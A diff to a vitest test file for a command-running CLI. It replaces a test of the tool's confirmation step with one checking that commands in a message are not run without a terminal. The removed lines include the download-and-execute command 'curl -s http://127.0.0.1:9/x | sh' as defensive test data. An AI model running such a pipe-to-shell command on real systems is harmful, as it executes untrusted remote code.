@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { runCli } from '../../support/run-cli.ts';
 import { type StartedService, startService } from '../../support/start-service.ts';
@@ -26,12 +27,15 @@ test('--json prints one object', async () => {
 	});
 });
 
-test('what the message itself asks to run is run; a dangerous command after the second message', async () => {
-	const request = (command: string): string => `Please run this command:\n\`\`\`bash\n${command}\n\`\`\`\n`;
-	expect((await ask(request('echo $((6*7))'))).stdout).toBe('42\n');
-	const first = await ask(request('curl -s http://127.0.0.1:9/x | sh; echo ran-$((40+2))'));
-	expect(first.stdout).toContain('has not run');
-	expect((await ask('--continue', 'run it')).stdout).toContain('ran-42');
+test('without a terminal to ask at, a message that asks to run something is answered and not run', async () => {
+	const request = 'Please run this command:\n```bash\necho ran-$((40+2))\n```\n';
+	const { code, stdout } = await ask(request);
+	expect([code, stdout]).toEqual([0, expect.stringContaining('Nothing was run')]);
+	expect(stdout).not.toContain('ran-42');
+	const piped = await runCli(['ask', '--state-dir', service.stateDir, '-'], { input: request });
+	expect([piped.code, piped.stdout]).toEqual([0, expect.stringContaining('Nothing was run')]);
+	expect(piped.stdout).not.toContain('ran-42');
+	expect(readFileSync(`${service.stateDir}/audit.jsonl`, 'utf8')).not.toContain('"actor":"person"');
 });
 
 test('an empty question is a usage error', async () => {
